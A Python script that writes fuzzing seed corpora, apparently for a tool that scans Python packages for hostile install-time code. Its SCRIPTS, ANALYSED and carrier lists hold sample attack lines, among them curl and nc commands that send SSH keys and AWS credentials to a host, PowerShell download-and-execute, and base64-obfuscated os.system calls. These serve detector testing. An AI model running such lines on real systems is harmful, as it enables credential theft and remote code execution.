#!/usr/bin/env python3
"""Makes the inputs that fuzzing starts from: one folder an entry, small and valid files each.

    fuzz_seeds.py OUT
"""

import base64
import bz2
import gzip
import hashlib
import importlib.util
import io
import keyword
import lzma
import marshal
import pathlib
import pickle
import shutil
import ssl
import struct
import subprocess
import sys
import sysconfig
import tarfile
import tempfile
import wave
import zipfile
import zlib

CONFIGURATION = {
    "toml": [
        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\nbackend-path = ["."]\n',
        '[project]\nname = "x"\nversion = "1.0"\n[project.scripts]\nx = "x:main"\n[project.entry-points."a.b"]\nc = "d"\n',
        'a = 0x1f\nb = 1_000.5e-3\nc = 1979-05-27T07:32:00.5-07:00\nd = """\n\\\n  x\\u00e9"""\ne = \'\'\'raw\'\'\'\nf = {g.h = [1, [2]], i = inf}\n',
        "[[a]]\nb.c = true\n[[a.d]]\n[a.d.e]\n[[a]]\n",
    ],
    "ini": [
        "[metadata]\nname = x\nversion: 1\n[options]\ninstall_requires =\n    a\n    b>=1 ; python_version < '3'\n",
        "[DEFAULT]\na = %(b)s\nb\n; comment\n[a]\n# comment\n c = 1\n  continued\n",
    ],
    "json": ['{"a": [1, -2.5e3, true, false, null, "\\u00e9\\ud83d\\ude00\\n"], "a": {}}', '"x"', "[[[[]]]]"],
    "entry-points": [
        "[console_scripts]\nx = x.y:main [extra]\n\n[pytest11]\nz=z\n",
        "[a.b]\nc d = e.f : g.h\n# comment\nbroken\n",
    ],
}

POLICIES = [
    'preset = "strict"\nquarantine-at = "medium"\npython = ["3.11", "3.15"]\nallow = ["six", "a==1"]\n[rules]\nPRQ101 = "off"\n',
    '[phase.startup]\nopaque = "block"\n[triggers]\npth-import-line = "quarantine"\n[[waiver]]\nrule = "startup-hook"\n'
    'project = "x"\nversion = "1"\nreason = "why"\nwho = "me"\nuntil = 2027-01-31\n',
]

PYTHON = [
    "lazy import a.b as c\nlazy from . import (d, e as f,)\nfrom ... import *\n",
    "@a.b(c)\nasync def f[T: int = str, *Ts, **P](a, /, b: c = 1, *d: *e, f, **g) -> h:\n    await (yield)\n",
    "type X[T] = list[T]\nclass A[T](B, metaclass=C, *d, **e):\n    x: int = 1\n    (y): str\n",
    "match a, *b:\n    case {'x': 1, **y} if z: pass\n    case A(b, c=-1+2j) | [*_, 3] as q: pass\n    case _: pass\n",
    "try: pass\nexcept* (A, B) as e: raise X from e\nelse: ...\nfinally: del a[1:2:3, ...], (b.c)\n",
    "try:\n    pass\nexcept A, B:\n    pass\n",
    "f'{a!r:>{w}.{p}} {{}} {x=} {f\"{1}\"}' rf'\\{b}' t'{c:%Y}'\n",
    "with (open(a) as b, c): x = y = [i async for i in z if (j := i) for k in j]\n",
    "lambda *, a=1, **b: {**a, 'b': c, **d} if not e else {*f, g}\n",
    "x = 0xF_F + 0o17 - 0b1 ** -1.5e-3j // a @ b << c & d | ~e ^ f\nassert a < b != c not in d is not e, 'm'\n",
    "if a:\n\tfor i, in b: continue\n\telse: break\nelif c:\n        while d: global e, f; nonlocal g\n",
    "# coding: latin-1\nx = '\\N{BULLET}\\x41\\u0041\\101' u'a' b'\\xff' r'''\\\n'''\n",
    "print 'x', y\nexec a in b\nraise E, v\nprint >>f, `x`, 0777, 10L, ur'a'\nx <> y\n",
    "def f((a, b), c): return lambda (d, e): d\n",
]
#: What a mutation of Python is made of, beside the keywords.
WORDS = ["lazy", "print ", "exec ", "async for ", "not in", "is not", "\n    ", "\n\t", "\n", "\r", "\f", "\\\n"]
WORDS += [":=", "->", "**", "//", "<<=", "...", "{{", "!r", "f'", 't"""', "rb'", "0x", "1_0", "1e5j", "\\N{", "# coding:"]


def python_files() -> list[bytes]:
    """Small files of the standard library."""
    library = pathlib.Path(sysconfig.get_path("stdlib"))
    return [path.read_bytes() for path in sorted(library.glob("*.py")) if path.stat().st_size < 3_000]


def python_words() -> str:
    """A libFuzzer dictionary: the words and operators of the language."""
    words = keyword.kwlist + keyword.softkwlist + WORDS
    return "".join('"' + "".join(f"\\x{byte:02x}" for byte in word.encode()) + '"\n' for word in words)


def bytecode() -> list[bytes]:
    """Compiled files and bare code objects as the Python that runs this makes them."""
    sources = [
        "import os\n",
        "x = (1, 2.5, 3j, b'x', 'é', None, True, ..., 1 << 80, frozenset({1, 2}))\n",
        "class A:\n    def f(self, a, *b, c=1, **d):\n        return lambda: (self, a)\n",
        "async def g():\n    async with a as b:\n        yield [i async for i in b]\n",
    ]
    codes = [marshal.dumps(compile(source, "x.py", "exec")) for source in sources]
    return [b"\0" + importlib.util.MAGIC_NUMBER + bytes(12) + code for code in codes] + [
        bytes([(sys.version_info.minor - 6) << 1 | 1]) + code for code in codes
    ]


METADATA = [
    "Metadata-Version: 2.1\nName: x\nVersion: 1.0\nRequires-Python: >=3.8, !=3.9.*, <4\nDescription: a\n  b\n\nbody\n",
    'x.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\n"a,""b"".py",md5=1B2M2Y8AsgTpgAmY7PhCfg,0\nx/RECORD,,\n',
    "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.2\n",
    "x-1.0-1-cp311.cp312-abi3-manylinux_2_17_x86_64.manylinux2014_x86_64.whl",
    "~=3.8.2",
]
LAYERED = "import base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))"
ANALYSED = [
    b"import m; m.f()\n../src\n#x\xfe\n\xffm:f\n\xffimport os\ndef f(a=os.environ): return a['HOME']\n\xff[pytest11]\nx = m:f\n",
    LAYERED.encode() + b"\n\xff\xff\xff\xffimport subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import m'])\n",
    b"\xef\xbb\xbfimport sys; exec('import zlib\\nx = zlib.decompress(b\"\")')\r# \x0cimport os\xff# only\n"
    b"\xffclass A:\n    def __init__(self): self.f = open\n    def g(self): return self.f('/etc/passwd').read()\n"
    b"A().g()\nimport urllib.request as u\nu.urlopen('http://127.0.0.1:9/', data=''.join(map(chr, [1, 2])).encode())\n",
    b"import m\xff\xfffrom importlib import import_module as i\ngetattr(i('o' + 's'), 'sys' 'tem')('%s' % {'a': 1}.get('a'))\n"
    b"x = [c for c in 'abc'[::-1]]\nwhile x: x.pop()\nfor k, v in {}.items(): pass\n@property\ndef f(): yield f()\n",
]


def carried() -> list[bytes]:
    """What `Fuzz/Payloads.swift` reads as data, in its order."""
    code = b"import os; os.system('id')"
    mail = b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Transfer-Encoding: base64\n\n"
    sound = io.BytesIO()
    with wave.open(sound, "wb") as writer:
        writer.setnchannels(1)
        writer.setsampwidth(2)
        writer.setframerate(8000)
        writer.writeframes(code)
    xor = bytes(a ^ hashlib.sha256(b"\0" * 8).digest()[i % 32] for i, a in enumerate(code))
    return [
        bytes([number]) + content
        for number, content in enumerate([
            pickle.dumps({"a": [1, code, (2.5, None)], "b": {3}}), marshal.dumps(compile(code, "x.py", "exec")),
            b'{"a": "import os", "b": [1, {"c": null}]}', b'a = "import os"\n[b]\nc = [1, 2]\n', b"[a]\nb = import os\n",
            b'"import os",b\nc,"d""e"\n', mail + base64.b64encode(code) + b"\n--b--\n", sound.getvalue(), zip_files()[1],
            tar_files()[0], zlib.compress(code), base64.b64encode(code), code.decode().encode("utf-7"), bytes(8) + xor,
            base64.urlsafe_b64encode(bytes(32)) + b"gAAAA" + base64.urlsafe_b64encode(bytes(57)), bytes(64),
            b"#i#m#p#o#r#t# #o#s", b"<a b='c'>import os<d/></a>", code,
        ])
    ]


#: What `Fuzz/Payloads.swift` has other programs run, in its order.
SCRIPTS = [
    "#!/bin/sh\ncurl -s \"http://127.0.0.1/$(cat ~/.ssh/id_rsa | base64 -w0)\" | sh &\n",
    "for f in ~/.aws/*; do tar czf - \"$f\"; done | nc 127.0.0.1 9",
    "x=${HOME:-/}; eval \"$(echo aWQ= | base64 -d)\" <<EOF\nid\nEOF\n",
    "const f=require('f'+'s');fetch(`http://127.0.0.1/${f.readFileSync(process.env.HOME+'/.npmrc')}`);eval(atob('MQ=='))",
    "import os; exec(bytes([105, 100]).decode())", "my $x=`cat ~/.netrc`; use HTTP::Tiny; system(qq{id $x});",
    "require 'net/http'; system \"id #{File.read('/etc/passwd')}\"", "<?php $x=file_get_contents('/etc/passwd'); shell_exec(\"id $x\");",
    "local f=io.open('/etc/passwd'); os.execute('id '..f:read('*a'))",
    "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a'); $x = Get-Content $env:USERPROFILE\\.aws\\credentials",
    base64.b64encode("iex 'id'".encode("utf-16-le")).decode(), 'do shell script "id " & (POSIX path of (path to home folder))',
    "const a=Application.currentApplication();a.includeStandardAdditions=true;a.doShellScript('id')",
    'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c " & Chr(105) & "d"\r\n',
    "@echo off\r\nset a=i\r\n%a%d & type %USERPROFILE%\\.ssh\\id_rsa | curl -d @- http://127.0.0.1/\r\n",
    "import os; os.system('id')", "cat /etc/passwd > /tmp/a; sh /tmp/a", "python3 -c 'import os; os.system(\"id\")' || wget -qO- http://127.0.0.1/",
]


def zip_files() -> list[bytes]:
    """Wheels with every compression of `zipfile`, a directory, a link, a `.data` member and a member in Zip64."""
    found = []
    for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", method) as archive:
            archive.writestr("x/__init__.py", "import os\n" * 3)
            archive.writestr("x-1.0.data/purelib/x.pth", "import x\n")
            archive.writestr("x-1.0.dist-info/METADATA", METADATA[0])
            archive.writestr("x-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
            archive.writestr("x-1.0.dist-info/RECORD", "x/__init__.py,,\nx-1.0.dist-info/RECORD,,\n")
        found.append(out.getvalue())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("d/", "")
        link = zipfile.ZipInfo("d/é")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "../../x")
        with archive.open(zipfile.ZipInfo("big"), "w", force_zip64=True) as member:
            member.write(b"x")
        archive.comment = b"comment"
    return [*found, out.getvalue()]


def tar_files() -> list[bytes]:
    """Tar archives in the three formats, with links, a long name, a device and a sparse-looking header."""
    found = []
    for form in (tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w", format=form, bufsize=512) as archive:
            for name, content in [("x-1.0/PKG-INFO", METADATA[0]), ("x-1.0/setup.py", "import os\n")]:
                entry = tarfile.TarInfo(name)
                entry.size = len(content)
                archive.addfile(entry, io.BytesIO(content.encode()))
            if form != tarfile.USTAR_FORMAT:
                archive.addfile(tarfile.TarInfo("x-1.0/" + "long/" * 30 + "é"))
            for kind, target in [(tarfile.SYMTYPE, "../../y"), (tarfile.LNKTYPE, "x-1.0/setup.py"), (tarfile.CHRTYPE, "")]:
                entry = tarfile.TarInfo("x-1.0/l")
                entry.type, entry.linkname = kind, target
                archive.addfile(entry)
        content = out.getvalue().rstrip(b"\0")
        found.append(content + bytes(-len(content) % 512 + 1024))
    return found


def elf_files() -> list[bytes]:
    """Small shared objects with constructors, where the machine has an assembler."""
    if not (shutil.which("as") and shutil.which("ld")):
        return []
    source = ".text\n.globl PyInit_x\nPyInit_x: ret\nf: ret\n.section .init_array,\"aw\"\n.quad f\n"
    with tempfile.TemporaryDirectory() as folder:
        assembled, linked = f"{folder}/x.o", f"{folder}/x.so"
        subprocess.run(["as", "-o", assembled, "-"], input=source.encode(), check=True)
        options = ["-shared", "-z", "noseparate-code", "-init=f", "-rpath", "/x", "--hash-style=both"]
        subprocess.run(["ld", *options, "-o", linked, assembled], check=True)
        return [pathlib.Path(assembled).read_bytes(), pathlib.Path(linked).read_bytes()]


def pe_file() -> bytes:
    """A DLL's headers: one section, an export directory, an empty thread-local storage directory."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
    directories = struct.pack("<II", 0x1000, 40) + bytes(8 * 8) + struct.pack("<II", 0x1040, 40) + bytes(8 * 6)
    optional = struct.pack("<HBBIIIII", 0x20B, 14, 0, 512, 512, 0, 0x1000, 0x1000)
    optional += struct.pack("<QIIHHHHHHIIIIHHQQQQII", 1 << 32, 4096, 512, 6, 0, 0, 0, 6, 0, 0, 8192, 512, 0, 2, 0,
                            1 << 20, 4096, 1 << 20, 4096, 0, 16) + directories
    header = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, len(optional), 0x2022)
    section = b".text\0\0\0" + struct.pack("<IIIIIIHHI", 512, 0x1000, 512, 512, 0, 0, 0, 0, 0x60000020)
    export = struct.pack("<IIHHIIIIIII", 0, 0, 0, 0, 0x1030, 1, 1, 1, 0x1028, 0x102C, 0x1030) + bytes(24)
    return (dos + header + optional + section).ljust(512, b"\0") + export.ljust(512, b"\0")


def macho_file() -> bytes:
    """A 64-bit library with a segment of initialisers and one needed library."""
    section = b"__mod_init_func\0" + b"__DATA".ljust(16, b"\0") + struct.pack("<QQIIIIIIII", 0, 8, 0, 3, 0, 0, 9, 0, 0, 0)
    segment = struct.pack("<II16sQQQQiiII", 0x19, 152, b"__DATA", 0, 4096, 0, 4096, 7, 3, 1, 0) + section
    library = struct.pack("<IIIIII", 0xC, 40, 24, 0, 0, 0) + b"/usr/lib/x.dylib"
    header = struct.pack("<IiiIIIII", 0xFEEDFACF, 0x01000007, 3, 6, 2, len(segment) + len(library), 0, 0)
    return header + segment + library


def fat_file(slice_: bytes) -> bytes:
    return struct.pack(">II", 0xCAFEBABE, 1) + struct.pack(">iiIII", 0x01000007, 3, 64, len(slice_), 3) + bytes(36) + slice_


def hello() -> bytes:
    """A ClientHello of this machine's own library, as the first bytes of a TLS connection."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2", "http/1.1"])
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="models.example.org").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    """A frame of HTTP/2 (RFC 9113, 4.1)."""
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


def question(*labels: bytes, kind: int = 1) -> bytes:
    """A query of DNS (RFC 1035, 4.1) with room for a longer answer (RFC 6891)."""
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    head = struct.pack(">6H", 0x1234, 0x0100, 1, 0, 0, 1)
    return head + name + struct.pack(">2H", kind, 1) + b"\0\0\x29\x04\xd0\0\0\0\0\0\0"


def connections() -> list[bytes]:
    """What clients of the sink begin with: a byte for the port, one for the pieces, and the bytes."""
    query = question(b"a", b"example", b"org")
    post = b"POST /up?x=1 HTTP/1.1\r\nHost: drop.example.org\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n%s"
    packed = gzip.compress(b"x" * 300)
    get = bytes.fromhex("828684418cf1e3c2e5f23a6ba0ab90f4ff")
    two = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(1, 4, 1, get) + frame(0, 1, 1, b"body")
    web = [
        b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\n" * 2,
        post % (len(packed), packed),
        b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nExpect: 100-continue\r\n\r\n4;x=y\r\nbody\r\n0\r\nA: b\r\n\r\n",
        b"CONNECT example.org:443 HTTP/1.1\r\n\r\n" + hello(),
        b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n",
        b"GET /dns-query?name=a.example.org&type=TXT HTTP/1.1\r\nHost: dns.example.org\r\n\r\n",
        b"POST /dns-query HTTP/1.1\r\nContent-Type: application/dns-message\r\nContent-Length: %d\r\n\r\n" % len(query) + query,
        two,
        hello(),
    ]
    mail = b"EHLO a.example.org\r\nMAIL FROM:<a@example.org>\r\nRCPT TO:<b@example.org>\r\nDATA\r\nSubject: x\r\n\r\n..x\r\n.\r\nQUIT\r\n"
    files = b"USER a\r\nPASS b\r\nTYPE I\r\nPASV\r\nEPSV\r\nSTOR x\r\nQUIT\r\n"
    seeds = [bytes([port, cut]) + bytes_ for bytes_ in web for port, cut in ((0, 255), (1, 21))]
    seeds += [bytes([2, 255]) + struct.pack(">H", len(query)) + query, bytes([4, 255]) + mail, bytes([6, 255]) + files]
    return [*seeds, bytes([4, 255]) + b"EHLO a\r\nSTARTTLS\r\n" + hello(), bytes([8, 9]) + b"\x00\x01raw"]


def write(folder: pathlib.Path, contents: "list[str | bytes]") -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for number, content in enumerate(contents):
        data = content.encode() if isinstance(content, str) else content
        (folder / f"{number:03d}").write_bytes(data)


def main() -> int:
    if len(sys.argv) != 2:
        print(__doc__, file=sys.stderr)
        return 2
    out = pathlib.Path(sys.argv[1])
    for entry, contents in CONFIGURATION.items():
        write(out / entry, contents)
    write(out / "python", [*PYTHON, *python_files()])
    (out / "python.dict").write_text(python_words())
    write(out / "policy", POLICIES)
    write(out / "metadata", METADATA)
    write(out / "analysis", ANALYSED)
    write(out / "carriers", carried())
    write(out / "scripts", [bytes([number]) + script.encode() for number, script in enumerate(SCRIPTS)])
    shutil.copyfile(out / "python.dict", out / "analysis.dict")
    write(out / "zip", zip_files())
    tars = tar_files()
    write(out / "tar", tars)
    packed = [pack(tar) for tar in tars[:2] for pack in (gzip.compress, bz2.compress, lzma.compress)]
    write(out / "sdist", [*packed, zip_files()[1]])
    write(out / "bytecode", bytecode())
    write(out / "connection", connections())
    write(out / "query", [question(b"a", b"example", b"org", kind=kind) for kind in (1, 12, 15, 16, 28, 33, 65, 255)])
    write(out / "native", [*elf_files(), pe_file(), macho_file(), fat_file(macho_file())])
    return 0


if __name__ == "__main__":
    sys.exit(main())
